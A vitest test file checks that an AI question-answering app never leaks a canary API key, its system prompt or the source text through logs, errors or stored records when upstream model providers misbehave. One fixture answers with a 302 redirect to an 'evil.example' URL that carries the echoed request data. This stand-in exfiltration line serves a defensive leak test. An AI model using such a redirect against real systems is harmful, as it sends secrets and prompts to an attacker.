import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Writable } from 'node:stream';
import { contract, type LoggedEvent } from '@nousboard/contracts';
import { createLog } from '@nousboard/server/platform/log';
import { parseEvents } from '@nousboard/testkit/event-stream';
import { storeReadSource } from '@nousboard/testkit/read-source';
import { startTestApp, type TestApp } from '@nousboard/testkit/test-app';
import { afterEach, expect, test } from 'vitest';

const KEY = 'sk-do-not-show-me-0123456789';
const WORDS = 'CANARY-PROMPT-WORDS';
const page =
  `The trial enrolled 214 patients in Oslo. ${WORDS} are in the source. Mortality fell by ` + '12 % after one year.';
const question = 'How many patients were enrolled in the Oslo trial?';

/** A service of whatever protocol that answers everything with what it was sent: key, headers and prompt. */
async function echo(how: Echo) {
  const server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', chunk => chunks.push(chunk as Buffer));
    request.on('end', () => {
      const told = JSON.stringify({ ...request.headers, url: request.url, body: Buffer.concat(chunks).toString() });
      how(told, response);
    });
  });
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: () =>
      new Promise<void>(resolve => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}
type Echo = (told: string, response: import('node:http').ServerResponse) => void;

const status =
  (code: number): Echo =>
  (told, response) => {
    response.writeHead(code, {
      'content-type': 'application/json',
      'x-told': encodeURIComponent(told).slice(0, 500),
      'retry-after': '0',
    });
    response.end(
      JSON.stringify({
        type: 'error',
        error: { type: 'x', code: 'x', status: 'X', message: `Wrong: ${told}`, details: [told] },
      }),
    );
  };
const ways: Record<string, Echo> = {
  '400': status(400),
  '401': status(401),
  '429': status(429),
  '500': status(500),
  'a page': (told, response) =>
    void response.writeHead(200, { 'content-type': 'text/html' }).end(`<html>${told}</html>`),
  'no JSON': (told, response) =>
    void response.writeHead(200, { 'content-type': 'application/json' }).end(told.slice(0, -3)),
  'an error in the stream': (told, response) =>
    void response
      .writeHead(200, { 'content-type': 'text/event-stream' })
      .end(
        'event: error\ndata: ' +
          `${JSON.stringify({ type: 'error', error: { type: 'overloaded_error', message: told, code: '500' } })}\n\n`,
      ),
  'a garbled stream': (told, response) =>
    void response.writeHead(200, { 'content-type': 'text/event-stream' }).end(`data: {"choices":[{"delta":${told}\n\n`),
  'a redirection': (told, response) =>
    void response
      .writeHead(302, { location: `https://evil.example/?q=${encodeURIComponent(told.slice(0, 400))}` })
      .end(),
  'a cut': (told, response) => {
    response.writeHead(200, { 'content-type': 'text/event-stream', 'content-length': '100000' }).write(`data: ${told}`);
    response.socket?.destroy();
  },
};

let open: TestApp | undefined;
let service: Awaited<ReturnType<typeof echo>> | undefined;
afterEach(async () => {
  await open?.close();
  await service?.close();
  open = service = undefined;
});

test.each(Object.entries(ways))('what a service tells about its own trouble goes nowhere: %s', async (_, how) => {
  const { origin } = (service = await echo(how));
  const lines: string[] = [];
  const keep = new Writable({
    write(chunk: Buffer, _encoding, done) {
      lines.push(chunk.toString());
      done();
    },
  });
  open = await startTestApp({
    log: createLog({ logLevel: 'trace' }, keep),
    settings: {
      openaiApiKey: KEY,
      openaiBaseUrl: `${origin}/v1`,
      openaiCompatibleBaseUrl: `${origin}/v1`,
      openaiCompatibleApiKey: KEY,
      openaiCompatibleModels: ['m'],
      anthropicApiKey: KEY,
      anthropicBaseUrl: `${origin}/v1`,
      googleApiKey: KEY,
      googleBaseUrl: `${origin}/v1beta`,
      ollamaBaseUrl: origin,
      embeddingBaseUrl: `${origin}/v1`,
      embeddingApiKey: KEY,
      embeddingModel: 'e',
      rerankBaseUrl: origin,
      rerankApiKey: KEY,
      agent: 'always',
    } as never,
  });
  const { app, given, as, database } = open;
  const project = await given.project({ owner: 'ada' });
  const { id: tenantId } = await as('ada').user();
  await storeReadSource(
    { database, blobs: app.blobs },
    { tenantId, projectId: project.conversationId, title: 'Trial', pages: [page] },
  );
  open.startWork();
  const events: LoggedEvent[] = [];
  const refusals: string[] = [];
  for (const endpoint of ['openai', 'openai-compatible', 'anthropic', 'google', 'ollama', 'builtin']) {
    const { status: code, text } = await as('ada').send(contract.ask, {
      body: {
        conversationId: project.conversationId,
        text: question,
        endpoint,
        model: endpoint === 'builtin' ? 'builtin' : 'm',
        parentMessageId: '00000000-0000-0000-0000-000000000000',
      } as never,
    });
    if (code === 200) events.push(...parseEvents(text));
    else refusals.push(text);
  }
  expect(events.filter(({ name }) => name === 'final' || name === 'error').length).toBeGreaterThan(1);
  const models = await as('ada').send(contract.getModels);
  const { items } = await as('ada').call(contract.listMessages, { params: { conversationId: project.conversationId } });
  const stored = await Promise.all([
    database.db.selectFrom('run_event').select('data').execute(),
    database.db.selectFrom('answer_run').selectAll().execute(),
    database.db.selectFrom('job').selectAll().execute(),
    database.db.selectFrom('message').selectAll().execute(),
  ]);
  const errors = events.flatMap(event => (event.name === 'error' ? [{ ...event.data, partial: null }] : []));
  for (const [what, said] of Object.entries({ events, refusals, models: models.text, items, stored, lines }))
    expect(JSON.stringify(said), `the key in ${what}`).not.toContain(KEY);
  // Words of the sources stand in answers and their sources, and nowhere else.
  for (const [what, said] of Object.entries({ errors, refusals, models: models.text, lines })) {
    expect(JSON.stringify(said), `the prompt in ${what}`).not.toContain(WORDS);
    expect(JSON.stringify(said), `the rules in ${what}`).not.toContain('You answer questions for a researcher');
    expect(JSON.stringify(said), `the question in ${what}`).not.toContain('enrolled in the Oslo');
  }
});
